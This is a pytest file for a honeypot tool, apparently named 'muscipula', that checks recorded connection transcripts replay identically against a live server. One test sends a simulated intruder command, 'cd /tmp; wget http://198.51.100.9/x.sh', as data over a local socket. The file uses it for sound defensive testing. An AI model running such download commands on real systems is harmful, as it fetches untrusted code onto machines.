"""Transcripts and `muscipula replay`: a recorded connection, played again, gets the same."""

from __future__ import annotations

import asyncio
import socket
import subprocess
import sys
import time
from pathlib import Path

from muscipula import transcripts
from tests.conftest import only
from tests.integration.test_limits import connect, engine, free_port


def replay(path: Path, port: int, *extra: str) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run([sys.executable, "-m", "muscipula", "replay", str(path), "--host",
                           "127.0.0.1", "--port", str(port), *extra],
                          capture_output=True, timeout=60)


def client_bytes(path: Path, connection: int | None = None) -> bytes:
    _, chunks = transcripts.read(path, connection)
    return b"".join(data for _, d, data in chunks if d == "in")


def by_transport(state: Path) -> tuple[Path, dict[str, int]]:
    """The service's one transcript file of the day, and a connection id per transport."""
    (path,) = (state / "transcripts").rglob("*.jsonl")
    ids = {h["connection"]["transport"]: h["connection"]["id"]
           for h, _ in transcripts.records(path)}
    return path, ids


def test_blackhole_transcript_replays_against_a_live_server(honeypot_factory):
    cfg = only({"blackhole": {"tcp_ports": [23], "udp_ports": [123]}})
    hp = honeypot_factory(cfg)
    with socket.create_connection(("127.0.0.1", hp.port(23)), timeout=5) as s:
        s.sendall(b"\xff\xfd\x18\xff\xfd\x20")
        time.sleep(0.3)
        s.sendall(b"root\r\n")
        time.sleep(0.2)
        s.sendall(b"cd /tmp; wget http://198.51.100.9/x.sh\r\n")
        time.sleep(0.2)
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"\x17\x00\x03\x2a" + b"\x00" * 4, ("127.0.0.1", hp.port(123)))
    u.close()
    time.sleep(0.2)
    assert hp.stop() == 0  # a UDP peer's transcript is written when it ends
    path, ids = by_transport(hp.state)  # one file a day per service, both transports in it
    assert path.name == "blackhole.jsonl" and set(ids) == {"tcp", "udp"}
    header, chunks = transcripts.read(path, ids["tcp"])
    assert header["connection"]["remote_host"] == "127.0.0.1"
    assert [d for _, d, _ in chunks] == ["in", "in", "in"]
    assert chunks[1][0] >= 0.25  # time offsets kept
    assert client_bytes(path, ids["tcp"]).startswith(b"\xff\xfd\x18")

    live = honeypot_factory(cfg, name="live")
    res = replay(path, live.port(23), "--timeout", "0.5", "--connection", str(ids["tcp"]))
    assert res.returncode == 0 and res.stdout == b""  # the blackhole still says nothing
    res = replay(path, live.port(123), "--timeout", "0.5", "--fast",
                 "--connection", str(ids["udp"]))
    assert res.returncode == 0 and res.stdout == b""
    assert live.stop() == 0
    played, again_ids = by_transport(live.state)
    # the same bytes, a second time
    assert client_bytes(played, again_ids["tcp"]) == client_bytes(path, ids["tcp"])
    assert client_bytes(played, again_ids["udp"]) == client_bytes(path, ids["udp"])
    _, again = transcripts.read(played, again_ids["tcp"])
    assert again[1][0] >= 0.25  # pauses kept without --fast


def test_replay_prints_what_the_server_answers(tmp_path, chatty):
    async def record() -> Path:
        port = free_port()
        async with engine(tmp_path / "a", {"chatty": {"tcp_ports": [port]}}) as (eng, _):
            _, w = await connect(port)
            for line in (b"user admin\n", b"pass secret\n"):
                w.write(line)
                await asyncio.sleep(0.1)
            w.close()
            await asyncio.sleep(0.2)
            state = eng.state_dir
        (path,) = (state / "transcripts").rglob("*.jsonl")
        return path

    path = asyncio.run(record())
    _, chunks = transcripts.read(path)
    said = b"".join(data for _, d, data in chunks if d == "out")
    assert said == b"USER ADMIN\nPASS SECRET\n"

    async def play() -> tuple[int, bytes]:
        port = free_port()
        async with engine(tmp_path / "b", {"chatty": {"tcp_ports": [port]}}):
            proc = await asyncio.create_subprocess_exec(
                sys.executable, "-m", "muscipula", "replay", str(path), "--host", "127.0.0.1",
                "--port", str(port), "--timeout", "0.5", stdout=asyncio.subprocess.PIPE)
            out, _ = await proc.communicate()
            return proc.returncode or 0, out

    code, out = asyncio.run(play())
    assert code == 0 and out == said


def test_replay_of_a_missing_or_broken_file(tmp_path):
    res = replay(tmp_path / "none.jsonl", 9)
    assert res.returncode == 2 and b"Traceback" not in res.stderr
    bad = tmp_path / "bad.jsonl"
    bad.write_text("")
    res = replay(bad, 9)
    assert res.returncode == 2 and b"empty transcript" in res.stderr
    one = tmp_path / "one.jsonl"
    one.write_text('{"connection": {"id": 4, "transport": "tcp"}, "start": 0, "chunks": []}\n')
    res = replay(one, 9, "--connection", "5")
    assert res.returncode == 2 and b"no connection 5" in res.stderr


def test_old_one_file_per_connection_layout_still_reads(tmp_path):
    old = tmp_path / "ftp-tcp-120000-7.jsonl"
    old.write_text('{"connection": {"id": 7, "transport": "tcp"}, "start": 1.5}\n'
                   '[0.0, "in", "VVNFUiBh"]\n[0.1, "out", "MzMx"]\n')
    header, chunks = transcripts.read(old)
    assert header["connection"]["id"] == 7
    assert chunks == [(0.0, "in", b"USER a"), (0.1, "out", b"331")]
